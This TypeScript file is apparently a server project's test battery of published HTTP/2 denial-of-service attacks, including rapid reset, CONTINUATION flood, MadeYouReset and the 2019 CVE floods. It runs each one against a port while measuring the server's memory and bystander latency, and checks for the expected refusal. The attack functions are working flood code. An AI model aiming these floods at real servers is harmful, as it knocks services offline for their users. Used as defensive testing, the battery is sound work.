/**
 * The HTTP/2 denial-of-service battery: each attack of the published ones
 * (2016 "HTTP/2: In-depth analysis of the top four flaws", the 2019
 * CVE-2019-9511..9518 set, rapid reset, CONTINUATION flood, MadeYouReset,
 * the "HTTP/2 bomb") as a function against a server's port, bounded in
 * count and time. runAttack() runs one while a well-behaved client keeps
 * requesting a small file on its own connection and the server process's
 * memory and descriptors are sampled, and reports what the attacker got.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { ErrorCode, errorCodeName, Flag, FrameType, connect as h2connect, SettingId } from '../../src/h2/index.js';
import { RawClient } from './h2-raw-client.js';

export interface Outcome {
  /** What the attacker saw, e.g. "GOAWAY ENHANCE_YOUR_CALM", "RST_STREAM REFUSED_STREAM x100", ":status 431". */
  answer: string;
  /** The bystander's requests during the attack. */
  bystander: { requests: number; failures: number; maxMs: number; p50Ms: number };
  /** The server's resident memory (KiB) before, at its peak, and one second after the attack. */
  rss: { before: number; peak: number; after: number };
  /** Open descriptors of the server at their peak. */
  fdsPeak: number;
}

export type Attack = (port: number) => Promise<string>;

function rssKiB(pid: number): number {
  try {
    return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);
  } catch {
    return 0;
  }
}

function fds(pid: number): number {
  try {
    return readdirSync(`/proc/${pid}/fd`).length;
  } catch {
    return 0;
  }
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Runs `attack` against the server at `port` (process `pid`) with a bystander requesting `path`. */
export async function runAttack(port: number, pid: number, attack: Attack, path = '/index.html'): Promise<Outcome> {
  const before = rssKiB(pid);
  let peak = before;
  let fdsPeak = fds(pid);
  const sampler = setInterval(() => {
    peak = Math.max(peak, rssKiB(pid));
    fdsPeak = Math.max(fdsPeak, fds(pid));
  }, 25);
  const session = await h2connect(`http://127.0.0.1:${port}`);
  const latencies: number[] = [];
  let failures = 0;
  let running = true;
  const bystander = (async () => {
    while (running) {
      const t0 = performance.now();
      try {
        const r = await session.request({ ':path': path }, { timeout: 10_000 });
        await r.bytes();
        if (r.status !== 200) failures++;
      } catch {
        failures++;
      }
      latencies.push(performance.now() - t0);
      await sleep(20);
    }
  })();
  let answer: string;
  try {
    answer = await attack(port);
  } finally {
    running = false;
    await bystander;
    session.destroy();
  }
  await sleep(1000);
  const after = rssKiB(pid);
  clearInterval(sampler);
  const sorted = latencies.slice().sort((a, b) => a - b);
  return {
    answer,
    bystander: { requests: latencies.length, failures, maxMs: Math.round(sorted.at(-1) ?? 0), p50Ms: Math.round(sorted[sorted.length >> 1] ?? 0) },
    rss: { before, peak, after },
    fdsPeak,
  };
}

/** What a raw client got: GOAWAY (its code), resets by code, statuses, or nothing. */
function describe(c: RawClient): string {
  const g = c.frames.find((f) => f.type === FrameType.GOAWAY);
  const parts: string[] = [];
  if (g) parts.push(`GOAWAY ${errorCodeName(g.errorCode!)}`);
  const rst = new Map<string, number>();
  for (const f of c.frames) if (f.type === FrameType.RST_STREAM) rst.set(errorCodeName(f.errorCode!), (rst.get(errorCodeName(f.errorCode!)) ?? 0) + 1);
  for (const [code, n] of rst) parts.push(`RST_STREAM ${code} x${n}`);
  const statuses = new Map<string, number>();
  for (const f of c.frames) {
    const s = f.type === FrameType.HEADERS ? f.headers?.find(([n]) => n === ':status')?.[1] : undefined;
    if (s !== undefined) statuses.set(s, (statuses.get(s) ?? 0) + 1);
  }
  for (const [s, n] of statuses) parts.push(`:status ${s} x${n}`);
  if (!g && c.closed) parts.push('closed');
  return parts.length ? parts.join(', ') : 'nothing';
}

/** Sends `frames` in batches, pausing between them, until `max` were sent or the server closed. */
async function flood(c: RawClient, make: (i: number) => Uint8Array, max: number, batch = 200): Promise<number> {
  let i = 0;
  while (i < max && !c.closed) {
    const parts: Uint8Array[] = [];
    for (let k = 0; k < batch && i < max; k++, i++) parts.push(make(i));
    c.send(...parts);
    await sleep(1);
  }
  return i;
}

async function settle(c: RawClient, ms = 500): Promise<void> {
  const end = Date.now() + ms;
  while (!c.closed && Date.now() < end) await sleep(10);
}

const GET = (c: RawClient, id: number, path: string, endStream = true) => c.request(id, path, { endStream });

/** The attacks, by name; `big` is the path of a large file (64 MiB), `small` of a small one. */
export function attacks(big: string, small: string): Record<string, Attack> {
  return {
    // 2016: request big files with the window kept at 0 (SETTINGS_INITIAL_WINDOW_SIZE 0), on many connections, and hold.
    'slow read (zero window)': async (port) => {
      const cs: RawClient[] = [];
      for (let k = 0; k < 20; k++) {
        const c = await RawClient.open(port, [[SettingId.INITIAL_WINDOW_SIZE, 0]]);
        cs.push(c);
        const frames: Uint8Array[] = [];
        for (let i = 0; i < 100; i++) frames.push(GET(c, 1 + 2 * i, big));
        c.send(...frames);
      }
      await sleep(3000);
      const answer = describe(cs[0]!);
      for (const c of cs) c.close();
      return answer;
    },
    // 2016: one large indexed entry, then blocks of references to it.
    'HPACK bomb': async (port) => {
      const c = await RawClient.open(port);
      const pseudo = [0x82, 0x86, 0x84, 0x01, 0x01, 0x61];
      const entry = Buffer.concat([Buffer.from([0x40, 0x06]), Buffer.from('x-bomb'), Buffer.from([0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);
      c.send(c.split(1, Buffer.concat([Buffer.from(pseudo), entry])));
      for (let i = 0; i < 50; i++)
        c.send(c.raw(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 3 + 2 * i, Buffer.concat([Buffer.from(pseudo), Buffer.alloc(1000, 0xbe)])));
      await settle(c, 1000);
      c.close();
      return describe(c);
    },
    // 2016 dependency cycles / 2019 resource loop (CVE-2019-9513): PRIORITY churn with cycles.
    'priority churn and dependency cycles (CVE-2019-9513)': async (port) => {
      const c = await RawClient.open(port);
      const prio = (id: number, dep: number, exclusive: boolean) => {
        const p = Buffer.alloc(5);
        p.writeUInt32BE((dep | (exclusive ? 0x80000000 : 0)) >>> 0, 0);
        p[4] = 200;
        return c.raw(FrameType.PRIORITY, 0, id, p);
      };
      await flood(c, (i) => prio(1 + 2 * (i % 50), 1 + 2 * ((i + 1) % 50), i % 2 === 0), 20_000);
      await settle(c);
      c.close();
      return describe(c);
    },
    // 2016: far more concurrent streams than SETTINGS_MAX_CONCURRENT_STREAMS.
    'stream multiplexing abuse': async (port) => {
      const c = await RawClient.open(port);
      await flood(c, (i) => GET(c, 1 + 2 * i, big), 5000, 100);
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2019-9511: a large response drawn out with 1-octet windows.
    'data dribble (CVE-2019-9511)': async (port) => {
      const c = await RawClient.open(port, [[SettingId.INITIAL_WINDOW_SIZE, 1]]);
      const frames: Uint8Array[] = [];
      for (let i = 0; i < 50; i++) frames.push(GET(c, 1 + 2 * i, big));
      c.send(...frames);
      await flood(c, (i) => c.windowUpdate(1 + 2 * (i % 50), 1), 20_000);
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2019-9512: PINGs, the ACKs never read.
    'ping flood (CVE-2019-9512)': async (port) => {
      const c = await RawClient.open(port);
      c.socket.pause();
      const ping = c.raw(FrameType.PING, 0, 0, new Uint8Array(8));
      await flood(c, () => ping, 100_000, 1000);
      await sleep(500);
      c.socket.resume();
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2019-9514: requests the server must reset (malformed), fast.
    'reset flood (CVE-2019-9514)': async (port) => {
      const c = await RawClient.open(port);
      await flood(
        c,
        (i) =>
          c.headersFrame(1 + 2 * i, [
            [':method', 'GET'],
            [':path', '/'],
          ]),
        5000,
        100,
      );
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2019-9515: SETTINGS, the ACKs never read.
    'settings flood (CVE-2019-9515)': async (port) => {
      const c = await RawClient.open(port);
      c.socket.pause();
      const settings = c.raw(FrameType.SETTINGS, 0, 0, new Uint8Array(0));
      await flood(c, () => settings, 100_000, 1000);
      await sleep(500);
      c.socket.resume();
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2019-9516: header fields with empty names.
    '0-length headers (CVE-2019-9516)': async (port) => {
      const c = await RawClient.open(port);
      await flood(
        c,
        (i) =>
          c.headersFrame(1 + 2 * i, [
            [':method', 'GET'],
            [':scheme', 'http'],
            [':authority', 'a'],
            [':path', small],
            ['', ''],
            ['', ''],
          ]),
        5000,
        100,
      );
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2019-9517: HTTP/2 windows wide open, the TCP window closed (the socket is never read).
    'internal data buffering (CVE-2019-9517)': async (port) => {
      const cs: RawClient[] = [];
      for (let k = 0; k < 10; k++) {
        const c = await RawClient.open(port, [[SettingId.INITIAL_WINDOW_SIZE, 0x7fffffff]]);
        c.socket.pause();
        cs.push(c);
        const frames: Uint8Array[] = [c.windowUpdate(0, 0x7fffffff - 65535)];
        for (let i = 0; i < 100; i++) frames.push(GET(c, 1 + 2 * i, big));
        c.send(...frames);
      }
      await sleep(3000);
      for (const c of cs) c.socket.resume();
      const answer = describe(cs[0]!);
      for (const c of cs) c.close();
      return answer;
    },
    // CVE-2019-9518: empty DATA frames without END_STREAM.
    'empty frames flood (CVE-2019-9518)': async (port) => {
      const c = await RawClient.open(port);
      c.send(c.request(1, small, { method: 'POST', endStream: false }));
      const empty = c.data(1, new Uint8Array(0), false);
      await flood(c, () => empty, 100_000, 1000);
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2023-44487: HEADERS then RST_STREAM, again and again.
    'rapid reset (CVE-2023-44487)': async (port) => {
      const c = await RawClient.open(port);
      await flood(c, (i) => Buffer.concat([GET(c, 1 + 2 * i, small), c.raw(FrameType.RST_STREAM, 0, 1 + 2 * i, [0, 0, 0, 8])]), 20_000, 100);
      await settle(c);
      c.close();
      return describe(c);
    },
    // 2024: a header block that never ends, in one-octet CONTINUATION frames.
    'CONTINUATION flood (2024)': async (port) => {
      const c = await RawClient.open(port);
      c.send(
        c.raw(
          FrameType.HEADERS,
          Flag.END_STREAM,
          1,
          c.encode([
            [':method', 'GET'],
            [':scheme', 'http'],
            [':authority', 'a'],
            [':path', '/'],
          ]),
        ),
      );
      const one = c.raw(FrameType.CONTINUATION, 0, 1, [0x41]);
      await flood(c, () => one, 200_000, 1000);
      await settle(c);
      c.close();
      return describe(c);
    },
    // CVE-2025-8671: requests the server accepts and then must reset because of a frame of ours (a zero WINDOW_UPDATE).
    'MadeYouReset (CVE-2025-8671)': async (port) => {
      const c = await RawClient.open(port);
      const zero = (id: number) => c.raw(FrameType.WINDOW_UPDATE, 0, id, [0, 0, 0, 0]);
      await flood(c, (i) => Buffer.concat([GET(c, 1 + 2 * i, big), zero(1 + 2 * i)]), 20_000, 100);
      await settle(c);
      c.close();
      return describe(c);
    },
    // 2026: a thousand one-octet indexed fields per request (under 64 KiB of list size) on streams held open by a zero window.
    'HTTP/2 bomb (indexed fields, zero window)': async (port) => {
      const cs: RawClient[] = [];
      for (let k = 0; k < 10; k++) {
        const c = await RawClient.open(port, [[SettingId.INITIAL_WINDOW_SIZE, 0]]);
        cs.push(c);
        const pseudo = Buffer.from(
          c.encode([
            [':method', 'GET'],
            [':scheme', 'http'],
            [':authority', 'a'],
            [':path', big],
          ]),
        );
        const frames: Uint8Array[] = [];
        for (let i = 0; i < 100; i++) frames.push(c.split(1 + 2 * i, Buffer.concat([pseudo, Buffer.alloc(1000, 0x90)])));
        c.send(...frames);
      }
      await sleep(2000);
      const answer = describe(cs[0]!);
      for (const c of cs) c.close();
      return answer;
    },
  };
}

/** Requests that the attack rows expect to have been refused, per row (the RFC's or nghttp2's answer). */
export const EXPECTED: Record<string, RegExp> = {
  'slow read (zero window)': /^(nothing|:status 200.*)$/,
  'HPACK bomb': /:status 431/,
  'priority churn and dependency cycles (CVE-2019-9513)': /GOAWAY ENHANCE_YOUR_CALM/,
  'stream multiplexing abuse': /RST_STREAM REFUSED_STREAM.*|GOAWAY ENHANCE_YOUR_CALM/,
  'data dribble (CVE-2019-9511)': /./,
  'ping flood (CVE-2019-9512)': /GOAWAY ENHANCE_YOUR_CALM/,
  'reset flood (CVE-2019-9514)': /GOAWAY ENHANCE_YOUR_CALM/,
  'settings flood (CVE-2019-9515)': /GOAWAY ENHANCE_YOUR_CALM/,
  '0-length headers (CVE-2019-9516)': /GOAWAY ENHANCE_YOUR_CALM/,
  'internal data buffering (CVE-2019-9517)': /./,
  'empty frames flood (CVE-2019-9518)': /GOAWAY ENHANCE_YOUR_CALM/,
  'rapid reset (CVE-2023-44487)': /GOAWAY ENHANCE_YOUR_CALM/,
  'CONTINUATION flood (2024)': /GOAWAY ENHANCE_YOUR_CALM/,
  'MadeYouReset (CVE-2025-8671)': /GOAWAY ENHANCE_YOUR_CALM/,
  'HTTP/2 bomb (indexed fields, zero window)': /:status 431/,
};

export { ErrorCode };
